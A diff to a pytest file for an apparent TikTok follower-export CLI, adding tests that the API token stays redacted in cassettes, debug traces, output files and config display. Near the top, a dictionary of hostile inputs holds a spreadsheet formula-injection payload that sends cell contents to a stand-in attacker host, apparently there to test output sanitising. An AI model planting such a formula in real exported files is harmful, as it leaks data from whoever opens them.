@@ -11,12 +11,14 @@ from pathlib import Path
 
 import pytest
 from fakeserver import TOKEN, Account, FakeTikTok, Fault, mobile_follower, sec_uid_for
-from helpers import Serve, invoke
+from helpers import CASSETTES, SEED_UID, TEST_TOKEN, Serve, invoke
 
 from tiktok_cli.client import HttpClient
 from tiktok_cli.errors import UnexpectedStatus
 
 UID = "6754915036232582149"
+BY_UID = ("followers", "--uid", SEED_UID)
+THREE_PAGES = "tkapi/followers_three_pages"
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -199,11 +201,57 @@ def test_the_token_never_leaks(
 
 
 def test_no_cassette_holds_a_token() -> None:
-    root = Path(__file__).resolve().parent.parent / "cassettes"
-    for cassette in root.rglob("*.yaml"):
+    files = [p for p in CASSETTES.rglob("*") if p.is_file()]
+    assert files
+    for cassette in files:
         text = cassette.read_text(encoding="utf-8")
         assert not re.search(r"[?&]token=", text), cassette
-        assert TOKEN not in text and "tok-SECRET" not in text, cassette
+        for token in (TOKEN, TEST_TOKEN, "tok-SECRET"):
+            assert token not in text, cassette
+
+
+# --- the token stays secret on documented answers (cassettes) --------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "args", "code"),
+    [
+        (THREE_PAGES, [*BY_UID, "-o", "out.csv"], 0),
+        (THREE_PAGES, [*BY_UID, "--raw", "-o", "out.jsonl"], 0),
+        (THREE_PAGES, [*BY_UID, "--limit", "7"], 0),
+        ("tkapi/followers_by_name", ["followers", "cnn", "-f", "table"], 0),
+        ("tkapi/followers_http_401", BY_UID, 5),
+        ("tkapi/followers_bad_token", [*BY_UID, "-o", "out.jsonl"], 5),
+        ("tkapi/followers_not_json", BY_UID, 7),
+    ],
+)
+def test_token_never_shown_even_with_trace_and_debug(cassette, tmp_path, name, args, code):
+    with cassette(name):
+        result = invoke(*args, "-v", "--debug", "--retries", "0")
+    assert result.exit_code == code, result.stderr
+    assert "token=***" in result.stderr  # the trace shows the request, redacted
+    for text in (result.stdout, result.stderr):
+        assert TEST_TOKEN not in text
+    for path in tmp_path.rglob("*"):
+        if path.is_file():
+            assert TEST_TOKEN.encode() not in path.read_bytes(), path
+
+
+@pytest.mark.parametrize("token", ["tok/SECRET+7f3a=9c", "tok SECRET 7f3a", "tök-SECRET-ü"])
+def test_tokens_with_unusual_characters_are_redacted_too(cassette, monkeypatch, token):
+    monkeypatch.setenv("TIKTOK_API_TOKEN", token)
+    with cassette("tkapi/followers_http_401"):
+        result = invoke(*BY_UID, "-v", "--debug", "--retries", "0")
+    assert result.exit_code == 5, result.stderr
+    assert "?token=***&uid=" in result.stderr
+    assert "SECRET" not in result.stderr
+
+
+def test_config_show_masks_the_token():
+    result = invoke("config", "show")
+    assert result.exit_code == 0
+    assert '# api_token = "***"' in result.stdout
+    assert TEST_TOKEN not in result.stdout
 
 
 def test_config_set_writes_an_owner_only_file_and_reads_secrets_from_stdin(isolated_env: Path) -> None:
